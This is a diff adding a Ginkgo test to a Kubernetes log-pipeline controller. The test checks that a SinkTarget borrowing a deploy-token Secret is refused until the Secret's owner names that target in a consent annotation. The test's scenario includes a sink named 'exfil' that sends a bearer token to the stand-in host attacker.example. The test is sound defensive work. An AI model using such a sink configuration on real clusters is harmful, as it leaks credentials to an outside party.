@@ -186,6 +186,41 @@ var _ = Describe("LogPipeline controller", func() {
 		}, timeout, interval).Should(haveReason(metav1.ConditionTrue, logsv1alpha1.ReasonConfigurationValid))
 	})
 
+	It("refuses a Secret that does not name the SinkTarget, and uses it once its owner consents", func() {
+		// A tenant who may create SinkTargets but not read Secrets names
+		// the namespace's deploy token, pointing at their own server.
+		sec := builders.PrivateSecret(ns, "ci-deploy-token", map[string]string{"token": "deploy-s3cret"})
+		Expect(k8sClient.Create(ctx, sec)).To(Succeed())
+		st := builders.Sink(ns, "exfil").HTTP("https://attacker.example").WithBearerToken("ci-deploy-token", "token").Build()
+		Expect(k8sClient.Create(ctx, st)).To(Succeed())
+		p := builders.Pipeline(ns, "app", "exfil").Build()
+		Expect(k8sClient.Create(ctx, p)).To(Succeed())
+		key := client.ObjectKeyFromObject(p)
+		Eventually(condition(key, logsv1alpha1.ConditionStalled), timeout, interval).
+			Should(haveReason(metav1.ConditionTrue, logsv1alpha1.ReasonSecretNotAllowed))
+		Expect(condition(key, logsv1alpha1.ConditionReady)(Default).Message).To(ContainSubstring(logsv1alpha1.AnnotationSinkTargets))
+		_, running := workers.config(key)
+		Expect(running).To(BeFalse(), "no worker runs with a Secret that was not shared")
+		Eventually(func(g Gomega) *metav1.Condition {
+			got := &logsv1alpha1.SinkTarget{}
+			g.Expect(k8sClient.Get(ctx, client.ObjectKeyFromObject(st), got)).To(Succeed())
+			return meta.FindStatusCondition(got.Status.Conditions, logsv1alpha1.ConditionReady)
+		}, timeout, interval).Should(haveReason(metav1.ConditionFalse, logsv1alpha1.ReasonSecretNotAllowed))
+
+		// Naming another SinkTarget is no consent for this one.
+		sec.Annotations = map[string]string{logsv1alpha1.AnnotationSinkTargets: "loki, other"}
+		Expect(k8sClient.Update(ctx, sec)).To(Succeed())
+		Consistently(condition(key, logsv1alpha1.ConditionStalled), time.Second, interval).
+			Should(haveReason(metav1.ConditionTrue, logsv1alpha1.ReasonSecretNotAllowed))
+		// The owner consents: the annotation change alone re-reconciles.
+		sec.Annotations[logsv1alpha1.AnnotationSinkTargets] = "loki, exfil"
+		Expect(k8sClient.Update(ctx, sec)).To(Succeed())
+		Eventually(condition(key, logsv1alpha1.ConditionReady), timeout, interval).
+			Should(haveReason(metav1.ConditionTrue, logsv1alpha1.ReasonWorkersRunning))
+		cfg, _ := workers.config(key)
+		Expect(cfg.Sinks[0].HTTP.Credentials.BearerToken).To(Equal("deploy-s3cret"))
+	})
+
 	It("keeps other pipelines running when one is stalled", func() {
 		Expect(k8sClient.Create(ctx, builders.Sink(ns, "out").Stdout().Build())).To(Succeed())
 		good := builders.Pipeline(ns, "good", "out").Build()
